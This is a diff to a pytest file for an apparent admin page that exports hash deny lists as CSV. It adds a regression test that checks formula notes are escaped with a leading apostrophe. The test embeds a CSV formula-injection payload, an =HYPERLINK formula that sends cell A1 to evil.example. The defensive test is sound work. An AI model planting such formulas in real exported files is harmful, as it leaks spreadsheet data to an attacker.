@@ -3,7 +3,9 @@ a malformed list refused naming the row, and nothing for a reviewer (issue 17, p
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import re
 
 import pytest
@@ -73,3 +75,22 @@ def test_a_reviewer_gets_nothing(data_dir):
     at = run(signed_in(AppTest.from_file(PAGE, default_timeout=60), REVIEWER))
     assert "needs signing in with the right role" in texts(at.warning)
     assert not [b for b in at.button if b.key in ("lists_import", "lists_clear")]
+
+
+def test_the_exported_list_writes_a_formula_note_as_text(data_dir, media):
+    """Issue 29, point 7: a note such as =HYPERLINK(...) was written verbatim into the CSV (it ran in the admin's
+    spreadsheet); it is written with a leading apostrophe, and read back as it was."""
+    from nsfw_core.base.spreadsheet import unescape
+
+    note = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    listed = f'sha256,pdq,label,note\n{SHA},,deny,"{note.replace(chr(34), chr(34) * 2)}"\n'.encode()
+    at = run(signed_in(AppTest.from_file(PAGE, default_timeout=60), ADMIN))
+    at.file_uploader(key="lists_upload").set_value(("list.csv", listed, "text/csv"))
+    run(at)
+    at.button(key="lists_import").click()
+    run(at)
+    (button,) = at.get("download_button")
+    text = media(button.proto.url).decode()
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    assert row["note"] == "'" + note and unescape(row["note"]) == note
+    assert [e.note for e in parse_list(text)] == [note]  # an export imports as it was
